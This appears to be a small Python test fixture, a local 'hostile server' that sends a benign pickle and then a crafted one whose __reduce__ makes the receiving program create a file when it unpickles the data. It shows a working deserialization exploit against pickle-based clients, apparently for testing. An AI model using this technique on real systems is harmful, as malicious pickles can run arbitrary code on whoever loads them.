"""Sends a pickle that creates a file where it is interpreted: hostile-server.py FILE"""
import pickle
import socket
import struct
import sys


class Bomb:
    def __reduce__(self):
        return (open, (sys.argv[1], "w"))


with socket.create_server(("127.0.0.1", 0)) as server:
    print("port", server.getsockname()[1], flush=True)
    bomb = pickle.dumps(Bomb())
    connection, _ = server.accept()
    with connection:
        sound = pickle.dumps(bytes(4096))
        connection.sendall(struct.pack("Q", len(sound)) + sound + struct.pack("Q", len(bomb)) + bomb)
        connection.recv(1)
